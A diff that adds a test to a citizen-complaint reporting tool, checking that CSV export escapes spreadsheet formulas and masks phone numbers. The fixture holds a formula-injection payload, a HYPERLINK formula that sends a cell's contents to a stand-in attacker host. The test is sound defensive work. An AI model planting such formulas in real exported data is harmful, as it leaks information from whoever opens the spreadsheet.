@@ -115,3 +115,21 @@ describe('aduan report --month', () => {
     expect(report).toMatch(/^triage_waiting\s+0$/m);
   });
 });
+
+describe('aduan export', () => {
+  it('a citizen text that a spreadsheet would run as a formula is written as text; citizens\' phone numbers are masked', async () => {
+    const { chainSetup } = await import('../helpers/chain.ts');
+    const { exportCases } = await import('../../scripts/report.ts');
+    const s = chainSetup();
+    const a = s.sms('+6281299998888', '=HYPERLINK("http://evil.example/x?"&A1,"Klik") jalan rusak di Jl. Kenari mohon diperbaiki');
+    s.sms('+6281299998888', `${a} -2+3 lubangnya makin besar`);
+    const csv = exportCases(s.db, undefined, undefined, 'csv');
+    expect(csv).toContain(`case,${a},`);
+    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/x?""&A1,""Klik"") jalan rusak');
+    expect(csv).not.toMatch(/,=HYPERLINK/);
+    expect(csv).not.toContain('6281299998888');
+    expect(csv).toContain('citizen:***888');
+    const json = exportCases(s.db, undefined, undefined, 'json');
+    expect(json).not.toContain('6281299998888');
+  });
+});
